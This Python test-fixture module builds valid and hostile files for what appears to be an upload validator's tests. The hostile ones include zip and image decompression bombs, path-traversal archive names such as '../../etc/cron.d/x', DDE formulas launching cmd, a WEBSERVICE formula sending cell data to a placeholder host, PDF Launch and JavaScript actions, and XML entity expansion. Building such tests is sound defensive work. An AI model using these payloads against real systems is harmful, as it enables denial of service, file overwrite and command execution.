"""Files of all kinds, made here: plain ones that must be taken, and hostile ones, each with the words of its refusal.

Nothing hostile is committed. HOSTILE: name of the defect -> (how it is made, words that the refusal must have).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import xlsxwriter
from PIL import Image, PngImagePlugin

Maker = Callable[[], bytes]
PLACE = (23.0, 48.0, 37.5)
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


# Plain files.


def pdf(*objects: bytes, head: bytes = b"", end: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n" + head + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + b"".join(objects)
    return body + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + end


def object_stream(inside: bytes, entries: bytes = b"/Type /ObjStm") -> bytes:
    packed = zlib.compress(inside)
    head = b"9 0 obj\n<< %s /N 1 /First 5 /Filter /FlateDecode /Length %d >>\n" % (entries, len(packed))
    return head + b"stream\n" + packed + b"\nendstream\nendobj\n"


@cache
def photo(width: int = 640, height: int = 480) -> Image.Image:
    """Light on the left, dark on the right."""
    grey = Image.linear_gradient("L").rotate(90).resize((width, height))
    return Image.merge("RGB", [grey, grey, grey])


def camera(orientation: int = 1) -> Image.Exif:
    """What a phone writes: which way is up, when and, of all things, where."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Phonemaker"
    details = exif.get_ifd(0x8769)
    details[0x9003], details[0x9011] = "2026:06:01 10:12:00", "+06:00"
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", PLACE, "E", PLACE
    return exif


def jpeg(orientation: int = 1, **more: object) -> bytes:
    out = io.BytesIO()
    photo().save(out, "JPEG", exif=camera(orientation), comment=b"by somebody", xmp=b"<x:xmpmeta/>", **more)
    return out.getvalue()


def png(orientation: int = 1, mode: str = "RGB") -> bytes:
    out, text = io.BytesIO(), PngImagePlugin.PngInfo()
    text.add_text("Author", "somebody")
    text.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta/>")
    photo().convert(mode).save(out, "PNG", exif=camera(orientation), pnginfo=text, icc_profile=b"profile of somebody")
    return out.getvalue()


def xlsx(*formulas: str) -> bytes:
    """A workbook as a common library writes it: text, figures, a link, a picture and these formulas."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Payroll")
        for row in range(50):
            sheet.write_row(row, 0, [f"row {row}", row, row * 2.5])
        sheet.write_url(0, 5, "https://example.org/help")
        sheet.insert_image(5, 8, "dot.png", {"image_data": io.BytesIO(png())})
        for row, formula in enumerate(("=SUM(B1:B50)", *formulas)):
            sheet.write_formula(row, 4, formula)
    return out.getvalue()


def changed(
    data: bytes, put: dict[str, bytes] | None = None, edit: dict[str, tuple[bytes, bytes]] | None = None
) -> bytes:
    """The workbook with parts put in, or with words replaced in its parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            body = old.read(name)
            if edit and name in edit:
                assert edit[name][0] in body, name
                body = body.replace(*edit[name])
            if name not in (put or {}):
                new.writestr(name, body)
        for name, body in (put or {}).items():
            new.writestr(name, body)
    return out.getvalue()


def raw_zip(name: str = "xl/worksheets/sheet9.xml", body: bytes = b"<x/>", **how: int) -> bytes:
    """A workbook and one more entry; how: create_system, external_attr, compress_type of that entry."""
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.filename = name  # as it is, whatever the library would make of it
        info.compress_type = zipfile.ZIP_DEFLATED
        for key, value in how.items():
            setattr(info, key, value)
        archive.writestr(info, body)
    return out.getvalue()


# Hostile ones.


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def bare_png(width: int, height: int, idat: bytes, more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + more + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(megabytes)) + packer.flush()


def huge_jpeg() -> bytes:
    """30,000 x 30,000 by its header."""
    data = bytearray(jpeg())
    at = next(at for at in range(len(data)) if data[at : at + 2] in (b"\xff\xc0", b"\xff\xc2"))
    data[at + 5 : at + 9] = struct.pack(">HH", 30_000, 30_000)
    return bytes(data)


def layered_jpeg() -> bytes:
    """A progressive picture with its scans repeated hundreds of times."""
    out = io.BytesIO()
    photo().save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * 400 + b"\xff\xd9"


def archive(name: str = "a.txt", body: bytes = b"hello") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(name, body)
    return out.getvalue()


def lying_zip() -> bytes:
    """A part that says 1,000 bytes and inflates to 200 MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("xl/worksheets/sheet1.xml", bytes(200 * 2**20))
        made.writestr("[Content_Types].xml", b"<x/>")
    return out.getvalue().replace(struct.pack("<I", 200 * 2**20), struct.pack("<I", 1000))


def overlapping_zip() -> bytes:
    """The second part lies inside the first: its bytes are inflated twice, and so on for as many as one likes."""

    def said(method: int, packed: bytes, body: bytes, name: bytes) -> tuple[bytes, bytes]:
        figures = struct.pack("<HHHIII", method, 0, 0, zlib.crc32(body), len(packed), len(body))
        named = struct.pack("<HH", len(name), 0)
        return b"PK\x03\x04" + struct.pack("<HH", 20, 0) + figures + named + name, figures

    body = b"<x>" + b"a" * 900_000 + b"</x>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(body) + packer.flush()
    inner_name, outer_name = b"xl/worksheets/sheet1.xml", b"[Content_Types].xml"
    inner, inner_figures = said(8, packed, body, inner_name)
    outer, outer_figures = said(0, inner + packed, inner + packed, outer_name)
    directory = b""
    for name, figures, place in ((outer_name, outer_figures, 0), (inner_name, inner_figures, len(outer))):
        directory += b"PK\x01\x02" + struct.pack("<HHH", 20, 20, 0) + figures
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, place) + name
    data = outer + inner + packed
    return data + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 2, 2, len(directory), len(data), 0)


def encrypted_zip() -> bytes:
    data = bytearray(xlsx())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(20_000):
            made.writestr(f"xl/worksheets/sheet{number}.xml", b"")
    return out.getvalue()


def bomb(megabytes: int, parts: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("[Content_Types].xml", b"<x/>")
        for number in range(parts):
            made.writestr(f"xl/worksheets/sheet{number}.xml", bytes(megabytes * 2**20))
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
RELS = "xl/_rels/workbook.xml.rels"
_REL = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '


def relation(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    more = _REL % kind + b'Target="%s" TargetMode="%s"/></Relationships>' % (target, mode)
    return changed(xlsx(), edit={RELS: (b"</Relationships>", more)})


def formula(xml: bytes) -> bytes:
    return changed(xlsx(), edit={SHEET: (b"<f>SUM(B1:B50)</f>", xml)})


def late_dde() -> bytes:
    """80 MiB of cells, and the last one starts a program."""
    cell = b'<c r="A1"><f>SUM(B1:B50)&amp;"|"</f><v>0</v></c>'
    noise = b"".join(b'<c r="A%d"><v>%d</v></c>' % (number, number * 7919 % 99991) for number in range(100_000))
    many = (noise + cell * 10_000) * 25 + b"<c><f>cmd|'/C calc'!A0</f></c>"
    return changed(xlsx(), edit={SHEET: (b"</sheetData>", many + b"</sheetData>")})


def deep_png() -> bytes:
    """The largest picture there may be, 16 bits deep, and one byte too much: 320 MB have to be counted."""
    packer = zlib.compressobj(9)
    packed = packer.compress(bytes(5000 * (1 + 8000 * 8) + 1)) + packer.flush()
    head = struct.pack(">IIBBBBB", 8000, 5000, 16, 6, 0, 0, 0)
    body = png_chunk(b"IHDR", head) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


HOSTILE: dict[str, tuple[Maker, str]] = {
    # Bombs.
    "zip: one part of a GiB": (lambda: bomb(1024), "inflates to"),
    "zip: 60 parts of 10 MiB": (lambda: bomb(10, 60), "inflates"),
    "zip: ratio of 1,000": (lambda: bomb(20), "200 times"),
    "zip: says 1,000 bytes, has 200 MiB": (lying_zip, "says that it has 1000 bytes"),
    "zip: parts that share their bytes": (overlapping_zip, "overlap"),
    "zip: 20,000 parts": (many_entries, "20000 parts"),
    "zip: an archive in it": (lambda: changed(xlsx(), {"xl/media/image9.png": archive()}), "no PNG picture"),
    "zip: an archive as a printer's settings": (
        lambda: changed(xlsx(), {"xl/printerSettings/printerSettings1.bin": archive()}), "in disguise"),
    "png: 30,000 x 30,000": (lambda: bare_png(30_000, 30_000, zeros(20)), "900 million"),
    "png: 2.6 GB of picture data": (lambda: bare_png(29_800, 29_800, zeros(2600)), "888 million"),
    "png: 10 x 10 with a GiB of picture data": (lambda: bare_png(10, 10, zeros(1024)), "more picture data"),
    "png: a line too few": (lambda: bare_png(6000, 6000, zeros(50)), "should be"),
    "png: 100,000 parts": (lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"teXt", b"") * 100_000), "parts"),
    "jpeg: 30,000 x 30,000": (huge_jpeg, "900 million"),
    "jpeg: 400 layers": (layered_jpeg, "layers"),
    "pdf: objects of 300 MiB": (lambda: pdf(object_stream(bytes(300 * 2**20))), "inflates"),
    "png: 320 MB and a byte": (deep_png, "more picture data"),
    "pdf: nothing but streams": (lambda: pdf(b"stream\n/ObjStm/First" * 1_100_000), "streams"),
    "xlsx: DDE in the last of three million cells": (late_dde, "DDE"),
    "xlsx: nothing but formulas that do not end": (lambda: changed(xlsx(), edit={SHEET: (
        b"</sheetData>", b"|" + b"<f a='" * 10_000_000)}), "markup"),
    "jpeg: 25 MiB of fill bytes": (lambda: b"\xff\xd8" + b"\xff" * (25 * 2**20 - 2), "damaged"),
    # Two things at once.
    "pdf and zip": (lambda: pdf() + archive(), "ZIP"),
    "pdf with a zip in the middle": (lambda: pdf(archive()), "ZIP"),
    "zip in front of a pdf": (lambda: archive() + pdf(), "PDF at the same time"),
    "pdf not at byte 0": (lambda: b"GIF89a " + pdf(), "byte 7"),
    "html in the head of a pdf": (lambda: pdf(head=b"%<html><script>alert(1)</script>\n"), "<html"),
    "data behind the end of a pdf": (lambda: pdf(end=b"MZ" + bytes(100) + b"x"), "behind the end"),
    "pdf cut off": (lambda: pdf()[:-20], "end is missing"),
    "gifar: jpeg and zip": (lambda: jpeg() + archive(), "ZIP"),
    "jpeg with a program behind it": (lambda: jpeg() + b"MZ" + bytes(500) + b"x", "behind the end"),
    "jpeg with a film behind it": (lambda: jpeg() + b"\0\0\0\x18ftypmp42" + bytes(99) + b"x", "behind the end"),
    "jpeg with the mark of a phone and no notes": (lambda: jpeg() + b"x" * 50 + b"SEFT", "behind the end"),
    "jpeg that is a pdf": (lambda: jpeg().replace(b"by somebody", b"%PDF-1.7 x!"[:11]).replace(
        b"\xff\xd8", b"\xff\xd8\xff\xfe\x00\x0c%PDF-1.7\n!", 1), "PDF at the same time"),
    "png and zip": (lambda: png() + archive(), "ZIP"),
    "png with a page behind it": (lambda: png() + b"<html>", "behind the end"),
    "png with several pictures": (
        lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"acTL", bytes(8))), "animated"),
    "png with a part of somebody's own": (
        lambda: bare_png(1, 1, zlib.compress(bytes(4)), png_chunk(b"EVIL", b"x")), "EVIL"),
    "png with a broken checksum": (lambda: png().replace(b"somebody", b"sOmebody", 1), "checksum"),
    "zip behind a program": (lambda: b"PK\x03\x04" + b"MZ" * 9 + xlsx(), "two programs"),
    "zip with something behind it": (lambda: xlsx() + b"#!/bin/sh\n", "behind its end"),
    # Names.
    "zip: ../": (lambda: raw_zip("../../etc/cron.d/x"), "leads out"),
    "zip: xl/../../": (lambda: raw_zip("xl/../../x.xml"), "leads out"),
    "zip: backslashes": (lambda: raw_zip("xl\\..\\x.xml"), "leads out"),
    "zip: an absolute name": (lambda: raw_zip("/etc/passwd"), "somebody's disk"),
    "zip: a drive": (lambda: raw_zip("C:/windows/x.xml"), "somebody's disk"),
    "zip: a symlink": (lambda: raw_zip(body=b"/etc/passwd", create_system=3, external_attr=0o120777 << 16), "link"),
    "zip: a name twice": (lambda: raw_zip("XL/Workbook.xml"), "twice"),
    "zip: a program": (lambda: raw_zip("xl/run.exe"), "no place"),
    "zip: no workbook": (archive, "no workbook"),
    "zip: a password": (encrypted_zip, "password"),
    "an encrypted or old Office file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "password"),
    # What acts by itself.
    "xlsx: macros": (lambda: raw_zip("xl/vbaProject.bin"), "macros"),
    "xlsx: macros under another name": (lambda: changed(xlsx(), edit={"[Content_Types].xml": (
        b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.main+xml"), RELS: (
        b"relationships/styles", b"relationships/vbaProject")}), "vbaproject"),
    "xlsx: the type of one with macros": (lambda: changed(xlsx(), edit={"[Content_Types].xml": (
        f"{SPREADSHEET}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")}), "macros"),
    "xlsx: old macros": (lambda: raw_zip("xl/macrosheets/sheet1.xml"), "macros"),
    "xlsx: links to other files": (lambda: raw_zip("xl/externalLinks/externalLink1.xml"), "links"),
    "xlsx: a connection": (lambda: raw_zip("xl/connections.xml"), "connection"),
    "xlsx: a file inside": (lambda: raw_zip("xl/embeddings/oleObject1.bin"), "files inside"),
    "xlsx: a control": (lambda: raw_zip("xl/activeX/activeX1.xml"), "controls"),
    "xlsx: a picture from elsewhere": (lambda: relation(b"image", b"http://tracker.example/x.png"), "outside itself"),
    "xlsx: a link to a share": (lambda: relation(b"hyperlink", b"file://///server/share"), "outside itself"),
    "xlsx: a link spelled in another way": (
        lambda: relation(b"oleObject", b"x", b"E&#120;ternal"), "oleobject"),
    "xlsx: a template from elsewhere": (
        lambda: relation(b"attachedTemplate", b"http://x.example/t", b"E&#120;ternal"), "outside itself"),
    "xlsx: DDE": (lambda: formula(b"<f>cmd|'/C calc'!A0</f>"), "DDE"),
    "xlsx: DDE in a named cell": (lambda: formula(b"<x:f xmlns:x='y' z='/>'>cmd|'/C calc'!A0</x:f>"), "DDE"),
    "xlsx: DDE spelled in another way": (lambda: formula(b"<f>cmd&#x7c;'/C calc'!A0</f>"), "DDE"),
    "xlsx: DDE in pieces": (lambda: formula(b"<f>cmd<!-- -->|'/C calc'!A0</f>"), "markup"),
    "xlsx: DDE behind a string": (lambda: formula(b"<f>\"a'b\"&amp;cmd|'/C calc'!A0</f>"), "DDE"),
    "xlsx: a DDE link": (lambda: formula(b"<ddeLink ddeService='cmd'/>"), "DDE"),
    "xlsx: WEBSERVICE": (lambda: formula(b"<f>webservice (\"http://x.example/\"&amp;A1)</f>"), "WEBSERVICE"),
    "xlsx: entities": (lambda: changed(xlsx(), edit={SHEET: (
        b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet')}), "document type"),
    "xlsx: entities in UTF-16": (lambda: changed(xlsx(), {SHEET: (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>').encode("utf-16")}), "UTF-8"),
    "xlsx: XML in UTF-7": (lambda: changed(xlsx(), {SHEET: b'<?xml version="1.0" encoding="UTF-7"?><x/>'}), "UTF-8"),
    "pdf: JavaScript": (lambda: pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "JavaScript"),
    "pdf: JavaScript spelled in another way": (
        lambda: pdf(b"3 0 obj\n<< /S /J#61v#61Script /JS (x) >>\nendobj\n"), "JavaScript"),
    "pdf: JavaScript in an object stream": (lambda: pdf(object_stream(b"3 0  << /S /JavaScript >>")), "JavaScript"),
    "pdf: an object stream spelled in another way": (
        lambda: pdf(object_stream(b"3 0  << /S /Launch >>", b"/Type /Obj#53tm")), "starts a program"),
    "pdf: an object stream without its type": (
        lambda: pdf(object_stream(b"3 0  << /S /Launch >>", b"/Type 7 0 R")), "starts a program"),
    "pdf: an object stream behind a false one": (
        lambda: pdf(b"(>> stream\n)", object_stream(b"3 0  << /S /Launch >>")), "starts a program"),
    "pdf: an object stream in two layers": (lambda: pdf(object_stream(
        b"x", b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")), "rare form"),
    "pdf: an object stream that cannot be read": (
        lambda: pdf(b"9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\nxxx\nendstream\n"),
        "cannot be read"),
    "pdf: launch": (lambda: pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "starts a program"),
    "pdf: a file inside": (lambda: pdf(b"3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), "file inside"),
    "pdf: a form that sends": (lambda: pdf(b"3 0 obj\n<< /S /SubmitForm >>\nendobj\n"), "sends"),
    "pdf: a password": (lambda: pdf(b"trailer << /Encrypt 5 0 R >>\n"), "password"),
    # None of ours.
    "a program": (lambda: b"MZ" + bytes(300), "a program"),
    "a page": (lambda: b"<!doctype html><script>1</script>", "web page"),
    "a phone's picture": (lambda: b"\0\0\0\x18ftypheic" + bytes(300), "JPEG"),
    "nothing known": (lambda: b"hello", "something else"),
    "jpeg cut off": (lambda: jpeg()[:-200], "cut off"),
    "png cut off": (lambda: png()[:-30], "cut off"),
    "jpeg of noise": (lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8, "cut off"),
}  # fmt: skip


def slow_pdf() -> bytes:
    """25 MiB of names that are spelled in the longest way, each of them a little different from what is looked for."""
    return pdf(b"/#4a" * 6_400_000)


def phone_jpeg() -> bytes:
    """With a second picture (a brightness map) and a maker's notes behind it, as phones write them."""
    notes = b"\0\0\x01\x0aMCC_Data" + b"470"
    directory = b"SEFH" + struct.pack("<III", 106, 1, 0x10A0000) + struct.pack("<II", len(notes), len(notes))
    return jpeg() + jpeg() + notes + directory + struct.pack("<I", len(directory)) + b"SEFT"


PLAIN: dict[str, tuple[Maker, str]] = {
    "pdf": (pdf, "pdf"),
    "pdf with plain object streams": (lambda: pdf(object_stream(b"3 0  << /Type /Font >>")), "pdf"),
    "pdf saved twice": (lambda: pdf() + b"3 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\r\n\0", "pdf"),
    "jpeg": (jpeg, "jpeg"),
    "jpeg in layers": (lambda: jpeg(progressive=True), "jpeg"),
    "jpeg of a phone": (phone_jpeg, "jpeg"),
    "png": (png, "png"),
    "png with a palette": (lambda: png(mode="P"), "png"),
    "png with a mask": (lambda: png(mode="RGBA"), "png"),
    "png in grey": (lambda: png(mode="1"), "png"),
    "png with a low profile": (lambda: interlaced(), "png"),
    "xlsx": (xlsx, "xlsx"),
    "xlsx with formulas of all sorts": (
        lambda: xlsx('=IF(A1="a|b","x","y")', "='a|b'!A1", "=SUBTOTAL(109,B1:B9)", '=HYPERLINK("https://example.org")'),
        "xlsx"),
    "xlsx with shared formulas": (lambda: formula(
        b'<f t="shared" ref="E1:E2" si="0">B1&amp;"|"</f></c><c r="E2"><f t="shared" si="0"/>'), "xlsx"),
    "xlsx of another program": (lambda: streamed(), "xlsx"),
}  # fmt: skip


def interlaced() -> bytes:
    """8 x 8 grey, Adam7: seven passes, 15 lines."""
    sizes = ((1, 1), (1, 1), (2, 1), (2, 2), (4, 2), (4, 4), (8, 4))
    lines = b"".join((b"\0" + bytes(columns)) * rows for columns, rows in sizes)
    head = struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 1)
    body = png_chunk(b"IHDR", head) + png_chunk(b"IDAT", zlib.compress(lines)) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def streamed() -> bytes:
    """Written to a pipe: sizes stand behind the parts, in data descriptors."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.data = b""

        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            self.data += bytes(data)  # type: ignore[call-overload]
            return len(bytes(data))  # type: ignore[call-overload]

    out = Pipe()
    with zipfile.ZipFile(io.BytesIO(xlsx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:  # type: ignore[type-var]
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.data
